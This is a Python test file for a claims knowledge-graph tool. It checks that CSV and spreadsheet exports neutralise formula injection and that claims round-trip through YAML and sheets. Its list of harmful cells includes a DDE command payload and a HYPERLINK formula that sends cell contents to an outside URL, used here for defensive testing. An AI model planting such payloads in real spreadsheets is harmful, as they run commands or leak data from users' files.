"""Tables for spreadsheets: nothing in them acts, nothing in them is guessed, and nothing gets lost."""

from __future__ import annotations

import csv
import functools
import io
import random
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from conftest import ROOT
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from strategies import bodies
from support.drawing import drawn

from kg import ClaimGraph, load
from kg.authoring.document import parse_yaml
from kg.authoring.files import find_files
from kg.authoring.formats import ClaimsFile
from kg.authoring.read import build_authored_bundle, build_claims_file, read_knowledge
from kg.authoring.write import build_written_claims, find_occurrence, write_claims_yaml
from kg.errors import InputError, Problem
from kg.formats.csv_tables import (
    CsvError,
    decode_csv,
    guard_cell,
    parse_csv,
    read_csv,
    restore_cell,
    write_csv,
)
from kg.formats.sheet import (
    MAX_COLUMNS,
    Sheet,
    build_claims_yaml,
    build_sheet_bundle,
    read_sheet,
    write_sheet,
    write_template,
)
from kg.formats.sheet.columns import SHEET_COLUMNS
from kg.formats.tables import write_claims_table, write_contradictions_table
from kg.model import (
    INHERITED,
    SEVERAL,
    SLOT_SECTIONS,
    Article,
    Bundle,
    Claim,
    Knowledge,
    Proposition,
    Quotation,
    Register,
    Several,
    Stance,
    names_of,
)
from kg.report.comparison import compare_views, comparison_csv
from kg.report.data import RELATION_COLUMNS, relations_csv
from kg.text import FoldedText

SEEDS = ROOT / "seeds"
BUNDLES = ROOT / "tests" / "bundles"
BOM = b"\xef\xbb\xbf"

#: Pages of the tests and the first article.
FOLDERS = [SEEDS, *sorted(folder for folder in BUNDLES.iterdir() if folder.is_dir())]
CLAIMS_FILES = [file.resolve() for file in find_files(FOLDERS)[1]]


@functools.cache
def graph(folder: Path) -> ClaimGraph:
    return load(folder)


def text_of(file: Path) -> str:
    """Return the name of the article's text beside a claims file."""
    name: str = parse_yaml(file.read_text(encoding="utf-8"), "claims.yaml").value["article"]["text"]
    return name


@functools.cache
def known(file: Path) -> tuple[Knowledge, Bundle]:
    """Return what is known where a claims file is read, and its bundle."""
    (folder,) = [folder for folder in FOLDERS if file.is_relative_to(folder)]
    knowledge = read_knowledge([folder])
    name = parse_yaml(file.read_text(encoding="utf-8"), "claims.yaml").value["article"]["id"]
    return knowledge, next(bundle for bundle in knowledge.bundles if bundle.id == name)


def spreadsheet(data: bytes) -> list[list[str]]:
    """Return the cells as a spreadsheet shows them, by a reader of CSV that is not ours."""
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def records(data: bytes) -> list[dict[str, str]]:
    head, *rows = read_csv(data)
    assert all(len(row) == len(head) for row in rows)
    return [dict(zip(head, row, strict=True)) for row in rows]


def problems(data: bytes | str) -> list[Problem]:
    with pytest.raises(InputError) as caught:
        read_sheet(data if isinstance(data, bytes) else data.encode("utf-8"), "sheet.csv")
    return list(caught.value.problems)


# Cells ------------------------------------------------------------------------------------------------------

SIGNS = "=+-@＝＋－＠"

HARMFUL = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "ー1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1;"x")',
    "no; =1+1",
    'no;"=1+1',
    "one\n=1+1",
    "one\r\n-1",
    "one\t@x",
    ";'=1",
    "\n'=1",
]
HARMLESS = ["", "x", "'tis so", "''", "a=b", "1-2", "a@b.org", "گنجه", "a; b", "a\nb", '"so" he said', "'"]


@pytest.mark.parametrize("text", HARMFUL)
def test_what_begins_like_a_formula_is_made_text(text: str) -> None:
    guarded = guard_cell(text)
    assert guarded != text
    assert restore_cell(guarded) == text
    for piece in (guarded, *re.split("[;\t\r\n]", guarded)):
        assert not piece.lstrip('"\u200b\ufeff\u00a0 ').startswith(tuple(SIGNS))
    assert not guarded.startswith(("\t", "\r", "\n"))
    [[cell]] = spreadsheet(write_csv([[text]]))
    assert cell == guarded


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert guard_cell(text) == text == restore_cell(text)


CELLS = st.text(
    st.sampled_from("'\"=+-@＝;,|\t\r\n a1\u200b\u202e«") | st.characters(codec="utf-8"), max_size=12
)
WITHOUT_CONTROL = CELLS.map(lambda text: re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]", "", text))


@settings(max_examples=drawn(500))
@given(CELLS)
@example("\n'\n''=")
@example(";';=;'=")
def test_restoring_undoes_guarding(text: str) -> None:
    guarded = guard_cell(text)
    assert restore_cell(guarded) == text
    assert not guarded.startswith((*SIGNS, "\t", "\r", "\n"))
    for piece in re.split("[;\t\r\n]", guarded):
        assert not piece.lstrip().startswith(tuple(SIGNS))


@settings(max_examples=drawn(200))
@given(st.lists(st.lists(WITHOUT_CONTROL, min_size=1, max_size=4), max_size=4))
def test_a_table_reads_back_as_it_was(rows: list[list[str]]) -> None:
    data = write_csv(rows)
    assert read_csv(data) == rows
    assert [[restore_cell(cell) for cell in row] for row in spreadsheet(data)] == rows
    assert data == write_csv(rows)


@settings(max_examples=drawn(300))
@given(st.text(st.sampled_from('",;\t\r\n ab'), max_size=30), st.sampled_from(",;\t"))
def test_rows_are_parsed_as_the_standard_library_parses_them(text: str, separator: str) -> None:
    try:
        ours = list(parse_csv(text, separator))
    except CsvError as error:
        assert error.row >= 1 and error.column >= 1
        with pytest.raises(csv.Error):
            list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))
        return
    theirs = csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True)
    assert ours == [row or [""] for row in theirs]


def test_numbers_days_and_truth_values_are_written_for_machines() -> None:
    data = write_csv([[30000, -1, date(2020, 10, 4), True, False, None, "-1"]])
    assert data == BOM + b"30000,-1,2020-10-04,true,false,,'-1\r\n"


def test_what_no_text_of_ours_holds_is_shown_by_its_number() -> None:
    assert read_csv(write_csv([["a\x00b\x1b\ud800"]])) == [["a⟦U+0000⟧b⟦U+001B⟧⟦U+D800⟧"]]
    kept = "bidi \u202e kept, \u200c kept, \x85 kept"
    assert read_csv(write_csv([[kept]])) == [[kept]]


@pytest.mark.parametrize(
    "text", ["\n" * 500_000 + "=", ";\n'" * 200_000 + "=", "=" * 500_000, "' " * 300_000]
)
def test_long_texts_are_guarded_and_restored(text: str) -> None:
    assert restore_cell(guard_cell(text)) == text


# Relations --------------------------------------------------------------------------------------------------


def test_relations_are_written_for_spreadsheets() -> None:
    found = graph(SEEDS)
    knowledge = found.knowledge
    relations = found.relations()
    rows = records(relations_csv(relations, knowledge).encode("utf-8"))
    assert list(rows[0]) == list(RELATION_COLUMNS)
    assert [row["id"] for row in rows] == [relation.id for relation in relations]
    compared = compare_views(relations, ["baku"], [], knowledge)
    alone = records(comparison_csv(compared, knowledge).encode("utf-8"))
    assert list(alone[0]) == ["only_for", *RELATION_COLUMNS]
    assert len(alone) == len(compared.only_first) + len(compared.only_second) > 0
    whole = {row["id"]: row for row in rows}
    for row in alone:
        view = row.pop("only_for")
        assert row == whole[row["id"]]
        [relation] = [relation for relation in relations if relation.id == row["id"]]
        assert relation.holds_for(["baku"]) == (view == "baku") and relation.holds_for([]) == (view == "none")


def harmful(knowledge: Knowledge) -> Knowledge:
    """Return the same knowledge with labels, glosses and quotes that begin like formulas."""
    entries = {
        name: replace(entry, label={language: f"={text}" for language, text in entry.label.items()})
        for name, entry in knowledge.register.entries.items()
    }
    bundles = []
    for bundle in knowledge.bundles:
        claims = tuple(
            replace(
                claim,
                quotations=tuple(replace(q, exact=f"@{q.exact}\n=1") for q in claim.quotations),
                gloss={language: f"-{text}" for language, text in claim.gloss.items()},
                bases={key: f"+{basis}" for key, basis in claim.bases.items()},
            )
            for claim in bundle.claims
        )
        bundles.append(Bundle(replace(bundle.article, published_basis="=1"), claims))
    return replace(knowledge, register=replace(knowledge.register, entries=entries), bundles=tuple(bundles))


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_no_table_holds_a_formula(folder: Path) -> None:
    found = graph(folder)
    knowledge = harmful(found.knowledge)
    relations = found.relations()
    tables = [
        relations_csv(relations, knowledge).encode("utf-8"),
        write_claims_table(knowledge),
        write_contradictions_table(relations, knowledge),
        *(write_template(knowledge, bundle) for bundle in knowledge.bundles),
    ]
    for data in tables:
        assert data.count(b"\n") == data.count(b"\r\n") + sum(
            cell.count("\n") for row in spreadsheet(data) for cell in row
        )
        for row in spreadsheet(data):
            for cell in row:
                for piece in re.split("[;\t\r\n]", cell):
                    assert not piece.lstrip('" ').startswith(tuple(SIGNS)), cell


def test_the_table_of_claims() -> None:
    knowledge = graph(SEEDS).knowledge
    data = write_claims_table(knowledge)
    assert data == write_claims_table(read_knowledge([SEEDS]))
    rows = {row["claim"]: row for row in records(data)}
    assert len(rows) == len(knowledge.claims) == len(spreadsheet(data)) - 1
    m2b = rows["m2b"]
    assert m2b["source"] == m2b["origin"] == "azerbaijan-mod"
    assert m2b["source_label_en"] == "Ministry of Defence of Azerbaijan" and m2b["source_label_fa"]
    assert m2b["presupposes"] == "firing(agent=armenian-forces, target=azerbaijan, time=2020-10-04)"
    assert (m2b["time_from"], m2b["time_to"], m2b["said_from"]) == ("2020-10-04",) * 3
    assert m2b["said_basis"].startswith("'hours before the new attack'")
    u1 = rows["u1"]
    assert (u1["measure"], u1["of"], u1["min"], u1["max"], u1["soft"]) == (
        "killed",
        "people",
        "231",
        "",
        "false",
    )
    n2a = next(row for row in rows.values() if row["soft"] == "true" and row["max"] == "33000")
    assert n2a["min"] == "27000"
    assert rows["m1"]["via"] == "azerbaijan-mod-twitter" and rows["m1"]["cue"] == "خبر داد"
    assert rows["n3"]["time_from"] == "2020-10-04" and rows["n3"]["time_to"] == ""
    two = rows["n2c"]
    starts, ends = two["start"].split("|"), two["end"].split("|")
    article = knowledge.articles["karabakh-2020-10-04"].text or ""
    spans = [article[int(start) : int(end)] for start, end in zip(starts, ends, strict=True)]
    assert len(spans) == 2 and "\n".join(spans) == two["quote"]
    a1b = rows["a1b"]
    where = "karabakh+karabakh-surroundings"
    assert a1b["condition"] == f"withdrawal(agent=armenia, place={where}, time=2020-10-04/..)"


def test_a_claim_without_content_or_dates_has_empty_cells() -> None:
    article = Article("a", "Who?", "en", "b", url="https://example.org/a", licence="https://example.org/l")
    claim = Claim("q", "c", Stance.ASKS, None, (Quotation("Who?", 0, 4),))
    knowledge = Knowledge(Register(), (Bundle(article, (claim,)),))
    [row] = records(write_claims_table(knowledge))
    filled = {name: cell for name, cell in row.items() if cell}
    assert filled == {
        "article": "a",
        "claim": "q",
        "source": "c",
        "origin": "c",
        "stance": "asks",
        "certainty": "unspecified",
        "direct": "false",
        "quote": "Who?",
        "start": "0",
        "end": "4",
        "publisher": "b",
        "url": "https://example.org/a",
        "licence": "https://example.org/l",
    }


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_the_table_of_contradictions(folder: Path) -> None:
    found = graph(folder)
    relations = found.relations()
    expected = [relation for relation in relations if relation.relation == "contradicts"]
    rows = records(write_contradictions_table(relations, found.knowledge))
    assert [row["id"] for row in rows] == [relation.id for relation in expected]
    for row, relation in zip(rows, expected, strict=True):
        first, *others = relation.positions
        assert row["first_claims"].split("|") == list(first.claims)
        assert row["second_claims"].split("|") == [name for other in others for name in other.claims]
        assert row["conflict"].split() == list(relation.conflict)
        views = {frozenset(view.split("+")) - {"always"} for view in row["holds_if"].split("|")}
        assert views == set(relation.holds_if)
        assert row["question_en"] and row["question_fa"] and row["input_hash"] == relation.input_hash
        assert len(row["bridges"].splitlines()) == len(relation.bridges)
        for name in first.claims:
            assert found.knowledge.claims[name].quotations[0].exact in row["first_quotes"]
            assert found.knowledge.claims[name].source in row["first_sources"].split("|")


# Round trips ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("file", CLAIMS_FILES, ids=lambda file: file.parent.name)
def test_what_was_authored_reads_back_from_yaml_and_from_a_sheet(file: Path) -> None:
    knowledge, bundle = known(file)
    name = text_of(file)
    events = list(knowledge.register.entries.values())
    yaml = write_claims_yaml(bundle, text=name, events=events)
    document = parse_yaml(yaml, "claims.yaml")
    assert build_claims_file(document) == build_written_claims(bundle, text=name, events=events)
    assert build_authored_bundle(document, file.parent, knowledge.register)[0] == bundle
    data = write_template(knowledge, bundle, text=name)
    sheet = read_sheet(data, "sheet.csv")
    assert build_claims_yaml(sheet) == yaml
    read, locations = build_sheet_bundle(sheet, file.parent, knowledge.register)
    assert read == bundle
    assert data == write_template(knowledge.register, read, text=name)
    rows = spreadsheet(data)
    for claim in bundle.claims:
        location = locations[f"{bundle.id}/{claim.id}"]
        assert location.line is not None and location.column == "claim"
        assert rows[location.line - 1][0] in (claim.id, f"'{claim.id}")


@pytest.mark.parametrize("file", CLAIMS_FILES, ids=lambda file: file.parent.name)
def test_what_people_wrote_is_kept_as_they_wrote_it(file: Path) -> None:
    """Not only the model: also what is vague in it, such as about so many."""
    written = build_claims_file(parse_yaml(file.read_text(encoding="utf-8"), "claims.yaml"))
    again = build_claims_file(parse_yaml(write_claims_yaml(written), "claims.yaml"))
    assert again == written
    assert read_sheet(write_sheet(Register(), written), "sheet.csv").file == written


def read_again(knowledge: Knowledge, bundle: Bundle, folder: Path) -> Bundle:
    """Return a bundle as a reader gives it who knows the text."""
    (folder / "article.fa.txt").write_bytes((bundle.article.text or "").encode("utf-8"))
    yaml = write_claims_yaml(bundle, events=knowledge.register.entries.values())
    return build_authored_bundle(parse_yaml(yaml, "claims.yaml"), folder, knowledge.register)[0]


def accepted(bundle: Bundle, register: Register) -> Bundle:
    """Return a bundle without the values that a reader refuses where they stand."""

    def fits(slot: str, name: str | None) -> bool:
        entry = register.entries.get(name or "")
        if entry is None or slot not in SLOT_SECTIONS:
            return True
        in_place = slot != "place" or entry.section != "sources" or entry.type == "state"
        return entry.section in SLOT_SECTIONS[slot] and in_place

    def fitting(p: Proposition | None) -> Proposition | None:
        if p is None:
            return None
        none = p.count is not None and p.count.high == 0
        unfit = [
            slot
            for slot in SEVERAL
            for value in [p.slot(slot)]
            if not all(fits(slot, name) for name in names_of(value))
            or (none and isinstance(value, Several) and not value.any_of)
        ]
        only = () if none else tuple(slot for slot in p.only if slot not in unfit)
        # What a claim leaves out it has from its event.
        emptied = [*unfit, "event"] if not set(INHERITED).isdisjoint(unfit) else unfit
        return replace(p, **dict.fromkeys(emptied), only=tuple(slot for slot in only if slot not in emptied))

    claims = []
    for claim in bundle.claims:
        presupposes = {found for p in claim.presupposes if (found := fitting(p))}
        claims.append(
            replace(
                claim,
                proposition=fitting(claim.proposition),
                presupposes=tuple(sorted(presupposes, key=lambda p: p.id)),
                condition=fitting(claim.condition),
            )
        )
    return Bundle(bundle.article, tuple(claims))


def content(bundle: Bundle) -> tuple[object, ...]:
    """Return a bundle without what follows from its text."""
    claims = [
        replace(
            claim, direct=False, quotations=tuple(replace(q, prefix="", suffix="") for q in claim.quotations)
        )
        for claim in bundle.claims
    ]
    return (bundle.article, sorted(claims, key=lambda claim: claim.order))


@settings(
    max_examples=drawn(60), suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(bodies())
def test_drawn_bundles_read_back(tmp_path: Path, knowledge: Knowledge) -> None:
    for body in knowledge.bundles:
        drawn = accepted(body, knowledge.register)
        bundle = read_again(knowledge, drawn, tmp_path)
        assert content(bundle) == content(drawn)
        assert read_again(knowledge, bundle, tmp_path) == bundle
        sheet = read_sheet(write_template(knowledge, bundle), "sheet.csv")
        assert build_sheet_bundle(sheet, tmp_path, knowledge.register)[0] == bundle
        events = knowledge.register.entries.values()
        assert build_claims_yaml(sheet) == write_claims_yaml(bundle, events=events)


# Everything that claims.yaml can say, drawn at random.

NAMES = st.from_regex(r"[a-z0-9][a-z0-9._-]{0,8}", fullmatch=True) | st.sampled_from(
    ["true", "null", "no", "1", "007", "1e5", "10-4", "2020-10-04", "oct-4", "may5", "1.0"]
)
TEXTS = WITHOUT_CONTROL.filter(bool) | st.sampled_from(
    [
        *(
            "=1+1",
            "'quoted'",
            "a: b",
            "a #b",
            "- a",
            "true",
            "2020-10-04",
            "41",
            "#REF!",
            "#NAME?",
            " x ",
            "\n",
        ),
        *(
            "خبر داد",
            "قره\u200cباغ",
            "\u202eevil",
            "«زیر آتش»",
            "a\\b",
            'say "no"',
            "x:",
            "x ",
            "a\tb",
            "{a}",
            "[b",
        ),
        *("ends in quote'", "# no comment", "%x", "`", "|", ">", "? a", "\x85", "\u2028", "\ufeff", "🜁"),
    ]
)
DAYS = st.dates(date(1, 1, 1), date(9999, 12, 31)).map(date.isoformat)
CLOCKS = st.builds(
    "{}T{}{}".format, DAYS, st.sampled_from(["09:00", "23:59:07"]), st.sampled_from(["", "Z", "-03:30"])
)


@st.composite
def times(draw: st.DrawFn, basis: bool = True) -> dict[str, str]:
    first, last = sorted(
        draw(st.tuples(DAYS, DAYS) | st.tuples(CLOCKS, DAYS) | CLOCKS.map(lambda at: (at, at)))
    )
    which = draw(st.sampled_from(["day", "both", "from", "to"]))
    found = {"day": {"from": first, "to": first}, "both": {"from": first, "to": last}}.get(which)
    found = found or {which: first}
    if basis and draw(st.booleans()):
        found["basis"] = draw(TEXTS)
    return found


def listed(names: st.SearchStrategy[str], least: int = 0) -> st.SearchStrategy[list[str]]:
    return st.lists(names, min_size=least, max_size=3, unique=True)


VALUES = NAMES | listed(NAMES, 1) | st.fixed_dictionaries({"any_of": listed(NAMES, 2)})


@st.composite
def counts(draw: st.DrawFn) -> dict[str, object]:
    found: dict[str, object] = {"measure": draw(NAMES)}
    if draw(st.booleans()):
        found["of"] = draw(NAMES)
    low, high = sorted((draw(st.integers(0, 10**12)), draw(st.integers(0, 10**12))))
    short = draw(st.sampled_from([f"{low}", f"{low}.125", f">{low}", f"<={low}", f"{low}-{high}", f"~{low}"]))
    ends: list[dict[str, object]] = [{"min": low}, {"max": high}, {"min": low, "max": high}, {"about": low}]
    found |= draw(st.sampled_from([*ends, {"min": "0.5"}, {"number": short}]))
    if draw(st.booleans()):
        found |= {"unit": draw(TEXTS), "as_of": draw(times(basis=False))}
    return found | {"soft": draw(st.booleans()), "final": draw(st.booleans())}


PROPOSITIONS = st.fixed_dictionaries(
    {"kind": NAMES},
    optional={
        **dict.fromkeys(SEVERAL, VALUES),
        **dict.fromkeys(("event", "said_by"), NAMES),
        "time": times(),
        "count": counts(),
        "only": listed(st.sampled_from(["target", "place", "time"])),
    },
)
CONDITIONS = PROPOSITIONS | st.builds(
    lambda form, condition: {form: condition}, st.sampled_from(["until", "unless"]), PROPOSITIONS
)
EVENTS = st.fixed_dictionaries(
    {},
    optional={
        "label": st.dictionaries(st.sampled_from(["en", "fa"]), TEXTS),
        "kind": NAMES,
        "target": VALUES,
        "place": VALUES,
        "time": times(),
        "part_of": listed(NAMES),
        "distinct_from": listed(NAMES),
        "same_as": listed(st.sampled_from(["https://example.org/?a=1,2", "https://example.org/;b"])),
    },
)
QUOTES = st.fixed_dictionaries({"text": TEXTS}, optional={"occurrence": st.integers(1, 10**6)})


@st.composite
def claims_files(draw: st.DrawFn) -> ClaimsFile:
    """Draw a claims file that says anything that the format allows, as nobody would."""
    ids = draw(st.lists(NAMES, max_size=4, unique=True))
    claims = []
    for name in ids:
        stance = draw(st.sampled_from(sorted(Stance)))
        claim = {
            "id": name,
            "source": draw(NAMES | listed(NAMES, 1)),
            "stance": stance.value,
            "quote": draw(st.lists(QUOTES, min_size=1, max_size=3)),
            **draw(
                st.fixed_dictionaries(
                    {},
                    optional={
                        "via": st.lists(NAMES, max_size=3),
                        "certainty": st.sampled_from(["certain", "unspecified", "hearsay"]),
                        "cue": TEXTS,
                        "gloss": st.dictionaries(st.sampled_from(["en", "fa", "az", "zh-hant"]), TEXTS),
                        "said": times(),
                        "corrects": listed(NAMES | st.builds("{}/{}".format, NAMES, NAMES)),
                        "presupposes": st.lists(PROPOSITIONS, max_size=3),
                        "condition": CONDITIONS,
                    },
                )
            ),
        }
        if stance != Stance.ASKS:
            claim["says"] = draw(PROPOSITIONS)
        claims.append(claim)
    article = {
        "id": draw(NAMES),
        "text": draw(TEXTS),
        "language": "fa",
        "publisher": draw(NAMES),
        **draw(
            st.fixed_dictionaries(
                {},
                optional={
                    "sha256": st.just("0" * 63 + "e"),
                    "published": times(),
                    "title": TEXTS,
                    "timezone": st.sampled_from(["Asia/Baku", "UTC", "Etc/GMT+4"]),
                    "url": st.just("https://example.org/?a=1&b=خبر"),
                    "licence": st.fixed_dictionaries(
                        {"iri": st.just("https://example.org/licence")}, optional={"shareable": st.booleans()}
                    ),
                },
            )
        ),
    }
    events = draw(st.dictionaries(NAMES, EVENTS, max_size=2))
    return ClaimsFile.model_validate({"article": article, "claims": claims, "events": events})


@settings(max_examples=drawn(100), suppress_health_check=[HealthCheck.too_slow])
@given(claims_files())
def test_everything_that_can_be_written_reads_back(file: ClaimsFile) -> None:
    yaml = write_claims_yaml(file)
    assert build_claims_file(parse_yaml(yaml, "claims.yaml")) == file
    data = write_sheet(Register(), file)
    sheet = read_sheet(data, "sheet.csv")
    assert sheet.file == file
    assert build_claims_yaml(sheet) == yaml
    shown = re.sub(r"[\n\u200c\u200d]", "", yaml)
    assert shown.isprintable()


def test_yaml_is_pleasant_to_read() -> None:
    file = CLAIMS_FILES[0]
    yaml = write_claims_yaml(known(file)[1], text="article.fa.txt")
    assert yaml.startswith("article:\n  id: karabakh-2020-10-04\n  text: article.fa.txt\n")
    assert (
        """
  - id: m1
    source: azerbaijan-mod
    via: [azerbaijan-mod-twitter]
    stance: asserts
    cue: خبر داد
"""
        in yaml
    )
    assert "\\u" not in yaml and "      count: {measure: killed, of: people, min: 231}\n" in yaml
    assert write_claims_yaml(Bundle(Article("a", "", "en", "b"), ())).endswith("\nclaims: []\n")


def test_what_cannot_be_authored_is_not_written() -> None:
    article = Article("tehran-desk:a", "Who?", "en", "tehran-desk:b")
    claim = Claim("q", "c", Stance.ASKS, None, ())
    with pytest.raises(InputError) as caught:
        write_claims_yaml(Bundle(article, (claim,)))
    assert {problem.id for problem in caught.value.problems} == {"not-writable"}
    assert {problem.claim for problem in caught.value.problems} == {None, "q"}
    with pytest.raises(InputError):
        write_template(Register(), Bundle(article, (claim,)))


def test_a_quote_is_told_from_its_like() -> None:
    text = FoldedText("no, " * 150)
    for occurrence in (1, 2, 100, 101, 150):
        start = 4 * (occurrence - 1)
        assert find_occurrence(text, Quotation("no", start, start + 2)) == occurrence
    assert find_occurrence(text, Quotation("no", 1, 3)) is None
    assert find_occurrence(text, Quotation("yes", 1, 4)) is None
    assert find_occurrence(FoldedText("unknown"), Quotation("known", 2, 7)) == 1
    assert find_occurrence(None, Quotation("no", 0, 2)) is None
    withheld = Bundle(
        Article("a", "no", "en", "b").without_text(),
        (Claim("q", "c", Stance.ASKS, None, (Quotation("no", 0, 2),)),),
    )
    assert build_written_claims(withheld).claims[0].quote[0].text == "no"


# The sheet --------------------------------------------------------------------------------------------------

HEAD = ["claim", "part", "source", "stance", "quote", "gloss_en", "kind", "time", "measure", "min", "soft"]
HEAD += [
    "article",
    "article_text",
    "article_language",
    "article_publisher",
    "said",
    "said_basis",
    "occurrence",
]
FIRST = {
    "claim": "c1",
    "source": "north",
    "stance": "asserts",
    "quote": "we fired",
    "kind": "firing",
    "article": "a",
    "article_text": "a.txt",
    "article_language": "en",
    "article_publisher": "paper",
}


def lines(*rows: Mapping[str, str], head: Sequence[str] = HEAD, separator: str = ",") -> str:
    """Return a sheet as a spreadsheet writes it."""
    file = io.StringIO(newline="")
    writer = csv.writer(file, delimiter=separator, lineterminator="\r\n")
    writer.writerow(head)
    writer.writerows([row.get(name, "") for name in head] for row in rows)
    return file.getvalue()


def read(*rows: Mapping[str, str]) -> Sheet:
    return read_sheet(lines(*rows).encode("utf-8"), "sheet.csv")


ENCODINGS = {
    "utf-8": lambda text: text.encode("utf-8"),
    "utf-8 with a mark": lambda text: BOM + text.encode("utf-8"),
    "little-endian utf-16": lambda text: b"\xff\xfe" + text.encode("utf-16-le"),
    "big-endian utf-16": lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
}


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("line_end", ["\r\n", "\n", "\r"])
def test_sheets_of_all_spreadsheets(separator: str, encoding: str, line_end: str) -> None:
    row = {**FIRST, "gloss_en": "they, «ما»; fired", "soft": "", "time": "2020"}
    text = lines(row, separator=separator).replace("\r\n", line_end)
    data = ENCODINGS[encoding](text)
    [claim] = read_sheet(data, "sheet.csv").file.claims
    assert claim.gloss == {"en": "they, «ما»; fired"}
    assert claim.says is not None and claim.says.time is not None
    assert (claim.says.time.start, claim.says.time.end) == (date(2020, 1, 1), date(2020, 12, 31))


def test_a_line_that_names_the_separator_is_understood() -> None:
    text = "sep=;\r\n" + lines({**FIRST, "min": "4,1"}, separator=";")
    [problem] = problems(text)
    assert str(problem.location) == "sheet.csv:row 3, column 'min'"


def test_an_empty_template_explains_itself_and_holds_no_claim() -> None:
    knowledge = known(CLAIMS_FILES[0])[0]
    data = write_template(knowledge)
    assert data == write_template(knowledge.register)
    head, *explanations = spreadsheet(data)
    names = [name for name in head if not name.startswith("gloss_")]
    assert names == [column.name for column in SHEET_COLUMNS]
    assert {"gloss_en", "gloss_fa"} <= set(head)
    assert len(explanations) == 4 and all(row[0].startswith("#") for row in explanations)
    english, persian, sample, listed = (dict(zip(head, row, strict=True)) for row in explanations)
    assert all(english.values()) and all(persian.values())
    assert listed["stance"].split() == [stance.value for stance in Stance]
    assert "shelling" in listed["kind"].split() and "ganja" in listed["place"].split()
    filled = {**sample, "claim": sample["claim"].removeprefix("# "), "article": "a"}
    sheet = read_sheet(data + lines(filled, head=head).split("\r\n", 1)[1].encode("utf-8"), "sheet.csv")
    [claim] = sheet.file.claims
    assert claim.says is not None and claim.says.count is not None and claim.says.count.min == 41
    found = {(problem.id, str(problem.location)) for problem in problems(data)}
    assert ("missing-key", "sheet.csv:row 1, column 'article'") in found


def test_parts_of_a_claim_on_rows_of_their_own() -> None:
    further = [
        {"part": "quote", "quote": "and again", "occurrence": "2"},
        {"claim": "c1", "part": "presupposes", "kind": "war"},
        {"claim": "c1", "part": "Condition", "kind": "talks", "time": "2020-10-04/.."},
        {"claim": "c1", "part": "presupposes", "kind": "peace"},
    ]
    first = {**FIRST, "stance": "threatens"}
    [claim] = read(first, *further).file.claims
    assert [(quote.text, quote.occurrence) for quote in claim.quote] == [("we fired", None), ("and again", 2)]
    assert [proposition.kind for proposition in claim.presupposes] == ["war", "peace"]
    assert claim.condition is not None and claim.condition.kind == "talks"
    shuffled = [{"claim": "c1", **row} for row in further]
    assert read(*shuffled, first).file == read(first, *further).file


def test_rows_and_cells_that_say_nothing() -> None:
    text = lines({**FIRST, "source": " north "}, {}, {"claim": "# c2", "source": "nobody"}, {"claim": " "})
    [claim] = read_sheet(f"# a note, before the head\r\n{text}".encode(), "sheet.csv").file.claims
    assert claim.source == ["north"]


def test_a_sheet_may_lack_ends_of_rows_and_have_empty_ones() -> None:
    text = lines(FIRST)
    longer = text.replace("\r\n", ",,,\r\n")
    assert read_sheet(longer.encode(), "s").file == read(FIRST).file
    head = [name for name in HEAD if name in FIRST]
    shorter = lines(FIRST, {"claim": "c2"}, head=head).splitlines()
    shorter[2] = "c2,north,denies,we fired,firing"
    order = ["claim", "source", "stance", "quote", "kind", *head[5:]]
    text = lines(FIRST, head=order) + shorter[2]
    assert [claim.id for claim in read_sheet(text.encode(), "s").file.claims] == ["c1", "c2"]


#: What is wrong, the identifier of the error, and the column it names; all of it is in row 2.
WRONG: list[tuple[dict[str, str], str, str]] = [
    *(
        ({"time": time}, "bad-date", "time")
        for time in ("04.10.2020", "10/4/2020", "4-Oct-20", "Oct-20", "44108")
    ),
    *(
        ({"time": time}, "bad-date", "time")
        for time in ("2020-10-4", "2020/10/04", "2020-10-04T00:00:00", "..")
    ),
    *(
        ({"time": time}, "bad-date", "time")
        for time in ("2020-10-04 00:00", "۲۰۲۰-۱۰-۰۴", "2020-13-01", "/", "2020.0")
    ),
    ({"time": "2020-10-05/2020-10-04"}, "bad-time", "time"),
    ({"said_basis": "because"}, "bad-time", "said"),
    *(
        ({"measure": "killed", "min": n}, "bad-number", "min")
        for n in ("41.0", "1,000", "1.000", "4.1E+01", "۴۱")
    ),
    *(({"measure": "killed", "min": n}, "bad-number", "min") for n in ("-1", "1 000", "4" * 19, "forty")),
    ({"measure": "killed", "min": "9" * 18}, "bad-value", "min"),
    ({"min": "41"}, "missing-key", "measure"),
    ({"measure": "killed"}, "bad-count", "min"),
    *(
        ({"measure": "killed", "min": "1", "soft": word}, "unknown-word", "soft")
        for word in ("WAHR", "1", "x")
    ),
    *(({"gloss_en": error}, "changed-cell", "gloss_en") for error in ("#REF!", "#NAME?", "#N/A", "Err:502")),
    ({"claim": "#NAME?"}, "changed-cell", "claim"),
    ({"claim": ""}, "missing-key", "claim"),
    ({"claim": "M1"}, "bad-value", "claim"),
    ({"source": ""}, "missing-key", "source"),
    ({"stance": "assert"}, "unknown-word", "stance"),
    ({"quote": ""}, "missing-key", "quote"),
    ({"kind": ""}, "missing-key", "claim"),
    ({"kind": "", "time": "2020"}, "missing-key", "kind"),
    ({"stance": "asks"}, "bad-stance", "claim"),
    ({"occurrence": "0"}, "bad-value", "occurrence"),
    ({"article": ""}, "missing-key", "article"),
